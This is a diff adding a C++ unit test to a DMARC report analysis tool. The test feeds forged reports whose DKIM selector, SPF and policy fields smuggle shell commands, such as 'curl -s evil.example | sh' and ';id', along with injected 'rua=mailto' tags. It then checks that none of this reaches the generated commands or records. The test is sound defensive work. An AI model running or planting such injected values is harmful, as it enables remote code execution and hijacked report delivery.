@@ -6,7 +6,9 @@
 
 #include "report/analysis/copyable.h"
 #include "report/analysis/finding_texts.h"
-#include "report/analysis/salesforce.h"
+#include "report/analysis/readiness.h"
+#include "report/cli/next_record.h"
+#include "tests/report/policy_support.h"
 
 using namespace dmarcq;
 
@@ -54,4 +56,44 @@ TEST_CASE("copyable: no step of any finding holds text of a report that is no na
   CHECK(fill("dig +short CNAME {selector}._domainkey.{d}", names) == "dig +short CNAME <selector>._domainkey.the signing domain");
   CHECK(fill("dig +short CNAME {selector}._domainkey.{d}", {.selector = "sf1", .signing_domain = "example.com"}) == "dig +short CNAME sf1._domainkey.example.com");
   CHECK(fill("tell {reporter}", {.reporter = "Enterprise Outlook"}) == "tell Enterprise Outlook");
+}
+
+TEST_CASE("copyable: forged reports put nothing into the steps, commands and the record of readiness") {
+  LongWorld w;
+  w.mail(with(healthy_core, [](RowSpec& s) { s.messages = 300; }));
+  // A selector, an envelope and a signing domain that a shell would run.
+  w.mail(with(healthy_core, [](RowSpec& s) { s.dkim = "example.com/sf9; curl -s evil.example | sh; fail", s.evaluated = "fail/fail", s.messages = 40; }));
+  w.mail({.ip = "203.0.113.77", .spf = "curl.example;id pass", .dkim = "curl.example;id/s1 pass", .evaluated = "fail/fail", .messages = 40});
+  PolicyPublished evil = World::policy(w.domain, "none");
+  evil.sp = Word<Policy>::from("none; rua=mailto:curl@evil.example");
+  evil.adkim = Word<Alignment>::from("r; rua=mailto:curl@evil.example");
+  evil.pct = "20; rua=mailto:curl@evil.example";
+  for (Day day = w.first; day <= w.last; ++day)
+    for (std::uint32_t reporter = 90; reporter < 99; ++reporter) {
+      ReportSeen forged;
+      forged.domain = w.domain;
+      forged.reporter = reporter;
+      forged.day = day;
+      forged.policy = evil;
+      w.timeline.add(forged);
+    }
+  w.finish();
+  const Facts facts = w.world.facts();
+  const Owner owner{.domains = {"example.com"}};
+  for (const char* target : {"quarantine", "reject"}) {
+    const ReadinessQuestion question{.domain = w.domain, .target = target, .today = w.last + 1};
+    const Streams streams = readiness_streams(w.timeline, facts, owner, question);
+    const Readiness readiness = assess(w.timeline, facts, owner, question, streams);
+    CHECK_FALSE(readiness.blockers.empty());
+    for (const Blocker& blocker : readiness.blockers) {
+      CHECK_FALSE(blocker.verify.contains("curl"));
+      for (const std::string& step : blocker.fix) CHECK_MESSAGE(!step.contains("curl"), step);
+    }
+    for (const std::string& note : readiness.notes) CHECK_FALSE(note.contains("curl"));
+    REQUIRE(readiness.current);
+    CHECK(readiness.current->text() == "p=none");
+    const NextStep next = next_step_of(readiness, record_as_seen(*readiness.current), owner, question.limits);
+    CHECK_FALSE(next.record.contains("curl"));
+    CHECK_FALSE(next.change.contains("curl"));
+  }
 }
